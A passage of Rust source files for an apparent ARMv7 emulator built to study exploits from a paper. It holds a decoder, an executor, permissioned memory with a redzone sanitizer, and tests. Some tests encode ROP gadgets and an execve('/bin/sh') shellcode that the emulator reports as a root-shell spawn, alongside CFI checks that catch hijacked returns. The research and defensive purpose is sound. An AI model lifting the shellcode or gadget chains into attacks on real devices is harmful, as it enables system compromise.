    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match *self {
            Insn::MovImm { rd, imm } => {
                write!(f, "mov ")?;
                fmt_reg(f, rd)?;
                write!(f, ", #{imm:#x}")
            }
            Insn::MvnImm { rd, imm } => {
                write!(f, "mvn ")?;
                fmt_reg(f, rd)?;
                write!(f, ", #{imm:#x}")
            }
            Insn::MovReg { rd, rm } => {
                write!(f, "mov ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rm)
            }
            Insn::AddImm { rd, rn, imm } => {
                write!(f, "add ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rn)?;
                write!(f, ", #{imm:#x}")
            }
            Insn::SubImm { rd, rn, imm } => {
                write!(f, "sub ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rn)?;
                write!(f, ", #{imm:#x}")
            }
            Insn::OrrImm { rd, rn, imm } => {
                write!(f, "orr ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rn)?;
                write!(f, ", #{imm:#x}")
            }
            Insn::AndImm { rd, rn, imm } => {
                write!(f, "and ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rn)?;
                write!(f, ", #{imm:#x}")
            }
            Insn::EorImm { rd, rn, imm } => {
                write!(f, "eor ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rn)?;
                write!(f, ", #{imm:#x}")
            }
            Insn::LslImm { rd, rm, shift } => {
                write!(f, "lsl ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rm)?;
                write!(f, ", #{shift}")
            }
            Insn::CmpImm { rn, imm } => {
                write!(f, "cmp ")?;
                fmt_reg(f, rn)?;
                write!(f, ", #{imm:#x}")
            }
            Insn::Ldr { rd, rn, offset } => {
                write!(f, "ldr ")?;
                fmt_reg(f, rd)?;
                f.write_str(", [")?;
                fmt_reg(f, rn)?;
                if offset != 0 {
                    write!(f, ", #{offset:#x}")?;
                }
                f.write_str("]")
            }
            Insn::Str { rd, rn, offset } => {
                write!(f, "str ")?;
                fmt_reg(f, rd)?;
                f.write_str(", [")?;
                fmt_reg(f, rn)?;
                if offset != 0 {
                    write!(f, ", #{offset:#x}")?;
                }
                f.write_str("]")
            }
            Insn::Ldrb { rd, rn, offset } => {
                write!(f, "ldrb ")?;
                fmt_reg(f, rd)?;
                f.write_str(", [")?;
                fmt_reg(f, rn)?;
                if offset != 0 {
                    write!(f, ", #{offset:#x}")?;
                }
                f.write_str("]")
            }
            Insn::Strb { rd, rn, offset } => {
                write!(f, "strb ")?;
                fmt_reg(f, rd)?;
                f.write_str(", [")?;
                fmt_reg(f, rn)?;
                if offset != 0 {
                    write!(f, ", #{offset:#x}")?;
                }
                f.write_str("]")
            }
            Insn::Push { list } => {
                f.write_str("push ")?;
                fmt_list(f, list)
            }
            Insn::Pop { list } => {
                f.write_str("pop ")?;
                fmt_list(f, list)
            }
            Insn::Bx { rm } => {
                f.write_str("bx ")?;
                fmt_reg(f, rm)
            }
            Insn::Blx { rm } => {
                f.write_str("blx ")?;
                fmt_reg(f, rm)
            }
            Insn::B { offset } => write!(f, "b {offset:+#x}"),
            Insn::Bl { offset } => write!(f, "bl {offset:+#x}"),
            Insn::BEq { offset } => write!(f, "beq {offset:+#x}"),
            Insn::BNe { offset } => write!(f, "bne {offset:+#x}"),
            Insn::Svc { imm } => write!(f, "svc #{imm:#x}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn d(w: u32) -> Insn {
        decode(&w.to_le_bytes()).unwrap().0
    }

    #[test]
    fn paper_gadget_pop_r0_r7_pc() {
        // pop {r0,r1,r2,r3,r5,r6,r7,pc} → list 0x80EF → e8bd80ef
        let i = d(0xE8BD_80EF);
        assert_eq!(i, Insn::Pop { list: 0x80EF });
        assert_eq!(reg_list(0x80EF), vec![0, 1, 2, 3, 5, 6, 7, 15]);
        assert_eq!(i.to_string(), "pop {r0, r1, r2, r3, r5, r6, r7, pc}");
    }

    #[test]
    fn blx_r3_gadget() {
        let i = d(0xE12F_FF33);
        assert_eq!(i, Insn::Blx { rm: 3 });
        assert_eq!(i.to_string(), "blx r3");
    }

    #[test]
    fn bx_lr() {
        assert_eq!(d(0xE12F_FF1E), Insn::Bx { rm: 14 });
    }

    #[test]
    fn mov_r1_r1_is_the_paper_nop() {
        let i = d(0xE1A0_1001);
        assert_eq!(i, Insn::MovReg { rd: 1, rm: 1 });
        assert_eq!(i.to_string(), "mov r1, r1");
    }

    #[test]
    fn data_processing_immediates() {
        assert_eq!(d(0xE3A0_700B), Insn::MovImm { rd: 7, imm: 11 });
        assert_eq!(
            d(0xE280_0004),
            Insn::AddImm {
                rd: 0,
                rn: 0,
                imm: 4
            }
        );
        assert_eq!(
            d(0xE240_D010),
            Insn::SubImm {
                rd: 13,
                rn: 0,
                imm: 16
            }
        );
        assert_eq!(d(0xE350_0000), Insn::CmpImm { rn: 0, imm: 0 });
        assert_eq!(d(0xE3E0_0000), Insn::MvnImm { rd: 0, imm: 0 });
    }

    #[test]
    fn rotated_immediate() {
        // mov r0, #0x1000 → imm8=0x01 rotate such that 1 ror (2*r)=0x1000.
        let imm12 = encode_imm12(0x1000).unwrap();
        let w = 0xE3A0_0000 | imm12;
        assert_eq!(d(w), Insn::MovImm { rd: 0, imm: 0x1000 });
        assert!(encode_imm12(0x1234_5678).is_none());
        assert_eq!(encode_imm12(0xFF), Some(0xFF));
    }

    #[test]
    fn ldr_str_offsets() {
        assert_eq!(
            d(0xE591_2004),
            Insn::Ldr {
                rd: 2,
                rn: 1,
                offset: 4
            }
        );
        assert_eq!(
            d(0xE511_2004),
            Insn::Ldr {
                rd: 2,
                rn: 1,
                offset: -4
            }
        );
        assert_eq!(
            d(0xE581_2008),
            Insn::Str {
                rd: 2,
                rn: 1,
                offset: 8
            }
        );
    }

    #[test]
    fn branches() {
        // b +8 (imm24 = 2): target = pc+8+8
        assert_eq!(d(0xEA00_0002), Insn::B { offset: 8 });
        // bl -4 (imm24 = 0xFFFFFF): offset −4
        assert_eq!(d(0xEBFF_FFFF), Insn::Bl { offset: -4 });
        assert_eq!(d(0xEF00_0000), Insn::Svc { imm: 0 });
    }

    #[test]
    fn push_encoding() {
        // push {r4, lr} → e92d4010
        assert_eq!(d(0xE92D_4010), Insn::Push { list: 0x4010 });
    }

    #[test]
    fn conditional_branches_decoded() {
        assert_eq!(d(0x0A00_0000), Insn::BEq { offset: 0 });
        assert_eq!(d(0x1AFF_FFFE), Insn::BNe { offset: -8 });
    }

    #[test]
    fn non_supported_conditions_rejected() {
        // bgt (cond 0xC) and conditional data processing are outside the
        // subset.
        assert!(matches!(
            decode(&0xCA00_0000u32.to_le_bytes()),
            Err(DecodeError::Unsupported(_))
        ));
        // moveq r0, #1 — conditional non-branch.
        assert!(matches!(
            decode(&0x03A0_0001u32.to_le_bytes()),
            Err(DecodeError::Unsupported(_))
        ));
    }

    #[test]
    fn logic_immediates_and_shift() {
        assert_eq!(
            d(0xE380_1001),
            Insn::OrrImm {
                rd: 1,
                rn: 0,
                imm: 1
            }
        );
        assert_eq!(
            d(0xE200_10FF),
            Insn::AndImm {
                rd: 1,
                rn: 0,
                imm: 0xFF
            }
        );
        assert_eq!(
            d(0xE220_1001),
            Insn::EorImm {
                rd: 1,
                rn: 0,
                imm: 1
            }
        );
        assert_eq!(
            d(0xE1A0_1182),
            Insn::LslImm {
                rd: 1,
                rm: 2,
                shift: 3
            }
        );
        assert_eq!(d(0xE1A0_1182).to_string(), "lsl r1, r2, #3");
    }

    #[test]
    fn byte_transfers() {
        assert_eq!(
            d(0xE5D1_2004),
            Insn::Ldrb {
                rd: 2,
                rn: 1,
                offset: 4
            }
        );
        assert_eq!(
            d(0xE5C1_2004),
            Insn::Strb {
                rd: 2,
                rn: 1,
                offset: 4
            }
        );
    }

    #[test]
    fn truncated() {
        assert_eq!(decode(&[0xEF, 0x00]), Err(DecodeError::Truncated));
        assert_eq!(decode_reference(&[0xEF, 0x00]), Err(DecodeError::Truncated));
    }

    #[test]
    fn table_matches_reference_decoder() {
        // Deterministic LCG sweep; the AL-forced variant exercises the
        // table densely (1/16 of raw draws are condition AL).
        let mut w: u32 = 0x1234_5678;
        for _ in 0..200_000 {
            w = w.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            for cand in [w, (w & 0x0FFF_FFFF) | 0xE000_0000] {
                let bytes = cand.to_le_bytes();
                assert_eq!(
                    decode(&bytes),
                    decode_reference(&bytes),
                    "table and reference disagree on {cand:#010x}"
                );
            }
        }
    }
}
