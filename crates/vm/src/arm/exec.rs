//! A32 execution.

use cml_image::Addr;

use crate::hooks;
use crate::machine::{Machine, RunOutcome};
use crate::regs::ArmReg;
use crate::Fault;

use super::insn::{decode, reg_list, DecodeError, Insn};

fn illegal(m: &Machine, pc: Addr) -> Fault {
    let mut bytes = [0u8; 4];
    for (i, b) in bytes.iter_mut().enumerate() {
        *b = m.mem.read_u8(pc.wrapping_add(i as u32), pc).unwrap_or(0);
    }
    Fault::IllegalInstruction { pc, bytes }
}

/// Fetches and decodes the A32 word at `pc`, going through the
/// predecoded-instruction cache (a hit skips fetch and decode entirely;
/// the cache is push-invalidated by every write/permission path, so a
/// hit is valid by construction).
pub(crate) fn decode_at(m: &mut Machine, pc: Addr) -> Result<Insn, Fault> {
    match m.mem.dcache_get(pc) {
        Some(crate::dcache::CachedInsn::Arm(insn)) => Ok(insn),
        _ => {
            let mut window = [0u8; 4];
            let n = m.mem.fetch_into(pc, &mut window)?;
            let (insn, _) = match decode(&window[..n]) {
                Ok(v) => v,
                Err(DecodeError::Truncated) | Err(DecodeError::Unsupported(_)) => {
                    return Err(illegal(m, pc));
                }
            };
            m.mem
                .dcache_insert(pc, crate::dcache::CachedInsn::Arm(insn), 4);
            Ok(insn)
        }
    }
}

/// Whether `insn` terminates a fused basic block: explicit branches,
/// returns, traps, and any data-processing/load form whose destination
/// is the pc.
pub(crate) fn ends_block(insn: &Insn) -> bool {
    match *insn {
        Insn::B { .. }
        | Insn::BEq { .. }
        | Insn::BNe { .. }
        | Insn::Bl { .. }
        | Insn::Bx { .. }
        | Insn::Blx { .. }
        | Insn::Pop { .. }
        | Insn::Svc { .. } => true,
        Insn::MovImm { rd, .. }
        | Insn::MvnImm { rd, .. }
        | Insn::MovReg { rd, .. }
        | Insn::AddImm { rd, .. }
        | Insn::SubImm { rd, .. }
        | Insn::OrrImm { rd, .. }
        | Insn::AndImm { rd, .. }
        | Insn::EorImm { rd, .. }
        | Insn::LslImm { rd, .. }
        | Insn::Ldr { rd, .. }
        | Insn::Ldrb { rd, .. } => rd == 15,
        Insn::CmpImm { .. } | Insn::Str { .. } | Insn::Strb { .. } | Insn::Push { .. } => false,
    }
}

/// Executes one A32 instruction at the current `pc`.
pub(crate) fn step(m: &mut Machine) -> Result<Option<RunOutcome>, Fault> {
    let pc = m.regs.pc();
    if !pc.is_multiple_of(4) {
        return Err(Fault::UnalignedFetch { pc });
    }
    let insn = decode_at(m, pc)?;
    exec_insn(m, insn, pc)
}

/// Executes an already-decoded instruction at `pc` — the semantic half
/// of [`step`], shared with the fused-block dispatcher so both modes
/// are one implementation.
pub(crate) fn exec_insn(
    m: &mut Machine,
    insn: Insn,
    pc: Addr,
) -> Result<Option<RunOutcome>, Fault> {
    let next = pc.wrapping_add(4);
    m.regs.set_pc(next);
    // Architectural pc reads as the *executing* instruction + 8, not the
    // already-advanced next pc.
    let get = move |m: &Machine, r: u8| {
        if r == 15 {
            pc.wrapping_add(8)
        } else {
            m.regs.arm().get(ArmReg(r))
        }
    };
    match insn {
        Insn::MovImm { rd, imm } => set_reg(m, rd, imm),
        Insn::MvnImm { rd, imm } => set_reg(m, rd, !imm),
        Insn::MovReg { rd, rm } => {
            let v = get(m, rm);
            set_reg(m, rd, v);
        }
        Insn::AddImm { rd, rn, imm } => {
            let v = get(m, rn).wrapping_add(imm);
            set_reg(m, rd, v);
        }
        Insn::SubImm { rd, rn, imm } => {
            let v = get(m, rn).wrapping_sub(imm);
            set_reg(m, rd, v);
        }
        Insn::OrrImm { rd, rn, imm } => {
            let v = get(m, rn) | imm;
            set_reg(m, rd, v);
        }
        Insn::AndImm { rd, rn, imm } => {
            let v = get(m, rn) & imm;
            set_reg(m, rd, v);
        }
        Insn::EorImm { rd, rn, imm } => {
            let v = get(m, rn) ^ imm;
            set_reg(m, rd, v);
        }
        Insn::LslImm { rd, rm, shift } => {
            let v = get(m, rm).wrapping_shl(shift as u32);
            set_reg(m, rd, v);
        }
        Insn::CmpImm { rn, imm } => {
            m.regs.arm_mut().zf = get(m, rn).wrapping_sub(imm) == 0;
        }
        Insn::Ldr { rd, rn, offset } => {
            let addr = get(m, rn).wrapping_add(offset as u32);
            let v = m.mem.read_u32(addr, pc)?;
            set_reg(m, rd, v);
        }
        Insn::Str { rd, rn, offset } => {
            let addr = get(m, rn).wrapping_add(offset as u32);
            let v = get(m, rd);
            m.mem.write_u32(addr, v, pc)?;
        }
        Insn::Ldrb { rd, rn, offset } => {
            let addr = get(m, rn).wrapping_add(offset as u32);
            let v = m.mem.read_u8(addr, pc)? as u32;
            set_reg(m, rd, v);
        }
        Insn::Strb { rd, rn, offset } => {
            let addr = get(m, rn).wrapping_add(offset as u32);
            let v = get(m, rd) as u8;
            m.mem.write_u8(addr, v, pc)?;
        }
        Insn::Push { list } => {
            let regs = reg_list(list);
            let sp = m.regs.sp().wrapping_sub(4 * regs.len() as u32);
            for (i, &r) in regs.iter().enumerate() {
                let v = get(m, r);
                m.mem.write_u32(sp.wrapping_add(4 * i as u32), v, pc)?;
            }
            m.regs.set_sp(sp);
        }
        Insn::Pop { list } => {
            let regs = reg_list(list);
            let sp = m.regs.sp();
            let mut pc_target = None;
            for (i, &r) in regs.iter().enumerate() {
                let v = m.mem.read_u32(sp.wrapping_add(4 * i as u32), pc)?;
                if r == 15 {
                    pc_target = Some(v);
                } else {
                    m.regs.arm_mut().set(ArmReg(r), v);
                }
            }
            m.regs.set_sp(sp.wrapping_add(4 * regs.len() as u32));
            if let Some(target) = pc_target {
                // `pop {…, pc}` is the function-return idiom: CFI treats
                // it as a return.
                m.ret_to(target & !1, pc)?;
            }
        }
        Insn::Bx { rm } => {
            let target = get(m, rm) & !1;
            if rm == 14 {
                // `bx lr` is the return idiom.
                m.ret_to(target, pc)?;
            } else {
                m.regs.set_pc(target);
            }
        }
        Insn::Blx { rm } => {
            let target = get(m, rm) & !1;
            m.regs.arm_mut().set(ArmReg::LR, next);
            m.shadow_push(next);
            m.regs.set_pc(target);
        }
        Insn::B { offset } => {
            m.regs
                .set_pc(pc.wrapping_add(8).wrapping_add(offset as u32));
        }
        Insn::BEq { offset } => {
            if m.regs.arm().zf {
                m.regs
                    .set_pc(pc.wrapping_add(8).wrapping_add(offset as u32));
            }
        }
        Insn::BNe { offset } => {
            if !m.regs.arm().zf {
                m.regs
                    .set_pc(pc.wrapping_add(8).wrapping_add(offset as u32));
            }
        }
        Insn::Bl { offset } => {
            m.regs.arm_mut().set(ArmReg::LR, next);
            m.shadow_push(next);
            m.regs
                .set_pc(pc.wrapping_add(8).wrapping_add(offset as u32));
        }
        Insn::Svc { .. } => return hooks::syscall_arm(m, pc),
    }
    Ok(None)
}

fn set_reg(m: &mut Machine, rd: u8, v: u32) {
    if rd == 15 {
        // Writing pc through data processing / ldr is an indirect branch.
        m.regs.arm_mut().set_pc(v & !1);
    } else {
        m.regs.arm_mut().set(ArmReg(rd), v);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::arm::Asm;
    use cml_image::{Arch, Perms, SectionKind};

    fn machine(code: Vec<u8>) -> Machine {
        let mut m = Machine::new(Arch::Armv7);
        m.mem.map(
            ".text",
            Some(SectionKind::Text),
            0x1_0000,
            0x1000,
            Perms::RX,
        );
        m.mem
            .map("data", Some(SectionKind::Data), 0x3_0000, 0x100, Perms::RW);
        m.mem.map(
            "stack",
            Some(SectionKind::Stack),
            0x7e00_0000,
            0x1000,
            Perms::RW,
        );
        m.mem.poke(0x1_0000, &code).unwrap();
        m.regs.set_pc(0x1_0000);
        m.regs.set_sp(0x7e00_0800);
        m
    }

    fn run_steps(m: &mut Machine, n: usize) {
        for _ in 0..n {
            assert!(m.step().unwrap().is_none(), "pc={:#x}", m.regs.pc());
        }
    }

    #[test]
    fn arithmetic_and_moves() {
        let code = Asm::new()
            .mov_imm(0, 40)
            .add_imm(0, 0, 2)
            .mov_reg(1, 0)
            .sub_imm(1, 1, 42)
            .finish();
        let mut m = machine(code);
        run_steps(&mut m, 4);
        assert_eq!(m.regs.arm().get(ArmReg(0)), 42);
        assert_eq!(m.regs.arm().get(ArmReg(1)), 0);
    }

    #[test]
    fn pc_relative_add_reads_plus_eight() {
        let code = Asm::new().add_imm(0, 15, 4).finish();
        let mut m = machine(code);
        run_steps(&mut m, 1);
        assert_eq!(m.regs.arm().get(ArmReg(0)), 0x1_0000 + 8 + 4);
    }

    #[test]
    fn push_pop_roundtrip_including_pc() {
        let code = Asm::new()
            .mov_imm(4, 0x99)
            .push(&[4, 14])
            .pop(&[5, 15])
            .finish();
        let mut m = machine(code);
        m.regs.arm_mut().set(ArmReg::LR, 0x1_0000); // lr = start
        run_steps(&mut m, 3);
        // pop {r5, pc}: r5 = 0x99 (old r4), pc = old lr.
        assert_eq!(m.regs.arm().get(ArmReg(5)), 0x99);
        assert_eq!(m.regs.pc(), 0x1_0000);
        assert_eq!(m.regs.sp(), 0x7e00_0800);
    }

    #[test]
    fn ldr_str() {
        let code = Asm::new()
            .mov_imm(1, 0x3_0000)
            .mov_imm(2, 0xAB)
            .str(2, 1, 8)
            .ldr(3, 1, 8)
            .finish();
        let mut m = machine(code);
        run_steps(&mut m, 4);
        assert_eq!(m.regs.arm().get(ArmReg(3)), 0xAB);
        assert_eq!(m.mem.read_u32(0x3_0008, 0).unwrap(), 0xAB);
    }

    #[test]
    fn blx_sets_lr_and_branches() {
        let code = Asm::new()
            .mov_imm(3, 0x1_0000)
            .add_imm(3, 3, 0x10)
            .blx(3)
            .finish();
        let mut m = machine(code);
        run_steps(&mut m, 3);
        assert_eq!(m.regs.pc(), 0x1_0010);
        assert_eq!(m.regs.arm().get(ArmReg::LR), 0x1_000C);
    }

    #[test]
    fn bl_and_bx_lr_roundtrip() {
        // 0x10000: bl +4 (target 0x1000c)
        // 0x10004: mov r0, #1   (returned here)
        // 0x10008: (never)
        // 0x1000c: bx lr
        let code = Asm::new().bl(4).mov_imm(0, 1).mov_imm(0, 2).bx(14).finish();
        let mut m = machine(code);
        run_steps(&mut m, 1);
        assert_eq!(m.regs.pc(), 0x1_000C);
        run_steps(&mut m, 1);
        assert_eq!(m.regs.pc(), 0x1_0004);
        run_steps(&mut m, 1);
        assert_eq!(m.regs.arm().get(ArmReg(0)), 1);
    }

    #[test]
    fn arm_execve_shellcode() {
        // add r0, pc, #16; mov r1, #0; mov r2, #0; mov r7, #11; svc 0;
        // then "/bin/sh\0" at pc+8+16 = start+24 (insn at start, so data
        // at offset 24; code is 20 bytes, pad 4).
        let code = Asm::new()
            .add_imm(0, 15, 16)
            .mov_imm(1, 0)
            .mov_imm(2, 0)
            .mov_imm(7, 11)
            .svc0()
            .word(0) // pad to offset 24
            .raw(b"/bin/sh\0")
            .finish();
        let mut m = machine(code);
        let out = m.run(10);
        assert!(out.is_root_shell(), "{out}");
        match out {
            RunOutcome::ShellSpawned(s) => {
                assert_eq!(s.program, "/bin/sh");
                assert_eq!(s.via, "execve");
            }
            other => panic!("unexpected {other}"),
        }
    }

    #[test]
    fn unaligned_pc_faults() {
        let mut m = machine(Asm::new().mov_reg(1, 1).finish());
        m.regs.set_pc(0x1_0002);
        assert_eq!(m.step(), Err(Fault::UnalignedFetch { pc: 0x1_0002 }));
    }

    #[test]
    fn cfi_blocks_hijacked_pop_pc() {
        let code = Asm::new().pop(&[15]).finish();
        let mut m = machine(code);
        m.enable_cfi();
        m.push_u32(0x1_0000).unwrap();
        assert!(matches!(m.step(), Err(Fault::CfiViolation { .. })));
    }

    #[test]
    fn cmp_sets_zero_flag() {
        let code = Asm::new().mov_imm(0, 5).cmp_imm(0, 5).finish();
        let mut m = machine(code);
        run_steps(&mut m, 2);
        assert!(m.regs.arm().zf);
    }
}
