//! ARMv7 (ARM state) subset: decoder, assembler and executor.
//!
//! The subset covers what the paper's Raspberry Pi exploits touch:
//! `ldm`/`stm` multiples (the `pop {r0,r1,r2,r3,r5,r6,r7,pc}` gadget),
//! `blx`/`bx` trampolines, data-processing immediates, single-word
//! loads/stores, and the `svc #0` syscall gate. Encodings are the real
//! A32 ones (condition field `AL`), stored little-endian.

mod asm;
mod exec;
mod insn;

pub use asm::Asm;
pub use insn::{decode, decode_reference, reg_list, DecodeError, Insn, A32_RULES};

pub(crate) use exec::{decode_at, ends_block, exec_insn, step};
