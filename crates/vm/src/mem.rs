//! Region-based permissioned memory.

use std::cell::Cell;
use std::fmt;
use std::sync::Arc;

use cml_image::{Addr, Perms, SectionKind};

use crate::dcache::{Block, CachedInsn, DecodeCache, PAGE_SIZE};
use crate::ir::IrBlock;
use crate::Fault;

/// One mapped region of the address space.
#[derive(Debug, Clone)]
pub struct Region {
    name: String,
    kind: Option<SectionKind>,
    base: Addr,
    perms: Perms,
    data: Vec<u8>,
    /// Dirty-page bitmap, armed while a snapshot is outstanding. One bit
    /// per [`PAGE_SIZE`] page of `data`; a set bit means the page has
    /// changed since the snapshot and must be copied back on restore.
    /// `None` = no snapshot taken, writes pay nothing.
    dirty: Option<Vec<u64>>,
}

impl Region {
    /// The region's human-readable name (`".text"`, `"[stack]"`, …).
    pub fn name(&self) -> &str {
        &self.name
    }

    /// The section kind this region was loaded from, if any.
    pub fn kind(&self) -> Option<SectionKind> {
        self.kind
    }

    /// Lowest mapped address.
    pub fn base(&self) -> Addr {
        self.base
    }

    /// Size in bytes.
    pub fn size(&self) -> u32 {
        self.data.len() as u32
    }

    /// One past the highest mapped address.
    pub fn end(&self) -> u64 {
        self.base as u64 + self.data.len() as u64
    }

    /// Current permissions.
    pub fn perms(&self) -> Perms {
        self.perms
    }

    /// Whether `addr` falls inside the region.
    pub fn contains(&self, addr: Addr) -> bool {
        (addr as u64) >= self.base as u64 && (addr as u64) < self.end()
    }

    /// Raw contents (ignores permissions; for the debugger).
    pub fn data(&self) -> &[u8] {
        &self.data
    }

    /// (Re-)arms dirty-page tracking with all pages clean.
    fn arm_dirty(&mut self) {
        let pages = self.data.len().div_ceil(PAGE_SIZE as usize);
        self.dirty = Some(vec![0u64; pages.div_ceil(64)]);
    }

    /// Marks the page containing `addr` dirty. One branch when no
    /// snapshot is outstanding — this is on the per-store path.
    #[inline]
    fn mark_dirty(&mut self, addr: Addr) {
        if let Some(bits) = &mut self.dirty {
            let page = ((addr - self.base) / PAGE_SIZE) as usize;
            bits[page / 64] |= 1 << (page % 64);
        }
    }

    /// Marks every page overlapping `len` bytes at `addr` dirty.
    fn mark_dirty_range(&mut self, addr: Addr, len: usize) {
        if len == 0 {
            return;
        }
        if let Some(bits) = &mut self.dirty {
            let first = ((addr - self.base) / PAGE_SIZE) as usize;
            let last = ((addr - self.base) as usize + len - 1) / PAGE_SIZE as usize;
            for page in first..=last {
                bits[page / 64] |= 1 << (page % 64);
            }
        }
    }
}

/// Copy-on-restore capture of one region: page-granular `Arc` chunks, so
/// cloning a snapshot shares every page and restoring copies back only
/// the pages the run dirtied.
#[derive(Debug, Clone)]
struct RegionSnapshot {
    name: String,
    kind: Option<SectionKind>,
    base: Addr,
    perms: Perms,
    /// `data` split into [`PAGE_SIZE`] chunks (last may be short).
    pages: Vec<Arc<[u8]>>,
}

/// A point-in-time capture of the whole address space, taken by
/// [`Memory::snapshot`] and replayed by [`Memory::restore`].
///
/// Pages are `Arc`-shared: cloning a snapshot is O(regions), not
/// O(image), and restore cost is proportional to the pages written since
/// the snapshot (plus any permission/mapping deltas), not to image size.
#[derive(Debug, Clone)]
pub struct MemorySnapshot {
    regions: Vec<RegionSnapshot>,
}

/// How an access touched the redzone.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedzoneAccess {
    /// An out-of-bounds store — diverted: recorded, never committed.
    Store,
    /// An out-of-bounds load — diverted: reads the poison byte `0`.
    Load,
}

impl fmt::Display for RedzoneAccess {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            RedzoneAccess::Store => "store",
            RedzoneAccess::Load => "load",
        })
    }
}

/// An armed shadow-memory redzone: the poisoned address range past the
/// end of a protected buffer, plus a record of the out-of-bounds
/// accesses it has absorbed so far.
///
/// The hit-recording fields are `Cell`s because loads arrive through
/// `&self` accessors — the same interior-mutability trick as the
/// region-lookup memo above.
#[derive(Debug, Clone)]
struct Redzone {
    buffer: Addr,
    capacity: u32,
    /// Poisoned range `[zone_start, zone_end)`.
    zone_start: Addr,
    zone_end: u64,
    /// Lowest / highest poisoned address touched, plus the pc and
    /// access kind of the first offending instruction.
    first: Cell<Option<Addr>>,
    last: Cell<Addr>,
    pc: Cell<Addr>,
    access: Cell<RedzoneAccess>,
}

/// Diagnostic returned when disarming a redzone that absorbed at least
/// one out-of-bounds access (the shadow-memory sanitizer's finding).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RedzoneHit {
    /// Base address of the protected buffer.
    pub buffer: Addr,
    /// Declared capacity of the buffer in bytes.
    pub capacity: u32,
    /// First (lowest) poisoned address touched.
    pub first: Addr,
    /// Last (highest) poisoned address touched.
    pub last: Addr,
    /// pc of the instruction that performed the first poisoned access.
    pub pc: Addr,
    /// Whether the first poisoned access was a store or a load.
    pub access: RedzoneAccess,
}

impl RedzoneHit {
    /// How many bytes past the buffer's end the writer reached.
    pub fn extent(&self) -> u32 {
        self.last
            .wrapping_sub(self.buffer.wrapping_add(self.capacity))
            .wrapping_add(1)
    }
}

/// The machine's memory: a set of disjoint regions with R/W/X checking.
///
/// All accessors take the current program counter so that faults can
/// report where the access originated — the same information a debugger
/// extracts from a core dump.
#[derive(Debug, Clone, Default)]
pub struct Memory {
    regions: Vec<Region>,
    /// Index of the most recently hit region — repeated lookups (step
    /// loops, bulk copies) resolve with a single range compare.
    last_region: Cell<usize>,
    /// Predecoded-instruction cache; every mutation path below notifies
    /// it so cached decodes can never go stale.
    dcache: DecodeCache,
    /// Armed shadow-memory redzone, if any (ASan-style sanitizer).
    redzone: Option<Box<Redzone>>,
}

impl Memory {
    /// Creates empty memory.
    pub fn new() -> Self {
        Memory::default()
    }

    /// Maps a new zero-filled region.
    ///
    /// # Panics
    ///
    /// Panics if the region is empty, wraps the address space, or
    /// overlaps an existing region — mapping is loader-controlled, so
    /// these are programming errors rather than runtime conditions.
    pub fn map(
        &mut self,
        name: impl Into<String>,
        kind: Option<SectionKind>,
        base: Addr,
        size: u32,
        perms: Perms,
    ) -> &mut Region {
        assert!(size > 0, "cannot map empty region");
        let end = base as u64 + size as u64;
        assert!(end <= (u32::MAX as u64) + 1, "region wraps address space");
        for r in &self.regions {
            assert!(
                end <= r.base as u64 || base as u64 >= r.end(),
                "region {:#x}..{:#x} overlaps {}",
                base,
                end,
                r.name
            );
        }
        self.regions.push(Region {
            name: name.into(),
            kind,
            base,
            perms,
            data: vec![0; size as usize],
            dirty: None,
        });
        self.regions.sort_by_key(|r| r.base);
        // A fresh mapping (firmware reload, per-boot ASLR slide) must
        // never execute through decodes cached for the old layout.
        self.dcache.flush();
        self.regions
            .iter_mut()
            .find(|r| r.base == base)
            .expect("region just inserted")
    }

    /// All regions, ordered by base address.
    pub fn regions(&self) -> &[Region] {
        &self.regions
    }

    /// The region containing `addr`, if any.
    pub fn region_containing(&self, addr: Addr) -> Option<&Region> {
        let cached = self.last_region.get();
        if let Some(r) = self.regions.get(cached) {
            if r.contains(addr) {
                return Some(r);
            }
        }
        let i = self.regions.iter().position(|r| r.contains(addr))?;
        self.last_region.set(i);
        Some(&self.regions[i])
    }

    fn region_mut(&mut self, addr: Addr) -> Option<&mut Region> {
        let cached = self.last_region.get();
        if self.regions.get(cached).is_some_and(|r| r.contains(addr)) {
            return self.regions.get_mut(cached);
        }
        let i = self.regions.iter().position(|r| r.contains(addr))?;
        self.last_region.set(i);
        self.regions.get_mut(i)
    }

    /// Changes the permissions of the region containing `addr`
    /// (`mprotect` analogue). Returns `false` if nothing is mapped there.
    pub fn set_perms(&mut self, addr: Addr, perms: Perms) -> bool {
        let found = match self.region_mut(addr) {
            Some(r) => {
                r.perms = perms;
                true
            }
            None => false,
        };
        if found {
            // Cached decodes were validated under the old permissions
            // (a hit implies the X bit was set at insert time).
            self.dcache.flush();
        }
        found
    }

    /// Reads one byte, honouring permissions.
    ///
    /// # Errors
    ///
    /// Returns [`Fault::UnmappedRead`] or [`Fault::ProtectedRead`].
    pub fn read_u8(&self, addr: Addr, pc: Addr) -> Result<u8, Fault> {
        if self.redzone_absorbs(addr, pc, RedzoneAccess::Load) {
            // A diverted load sees poison, never the shadowed contents.
            return Ok(0);
        }
        let r = self
            .region_containing(addr)
            .ok_or(Fault::UnmappedRead { addr, pc })?;
        if !r.perms.readable() {
            return Err(Fault::ProtectedRead {
                addr,
                perms: r.perms,
                pc,
            });
        }
        Ok(r.data[(addr - r.base) as usize])
    }

    /// Reads a little-endian 32-bit word.
    ///
    /// # Errors
    ///
    /// Returns a read fault if any of the four bytes is inaccessible.
    pub fn read_u32(&self, addr: Addr, pc: Addr) -> Result<u32, Fault> {
        let mut v = 0u32;
        for i in 0..4 {
            let a = addr.wrapping_add(i);
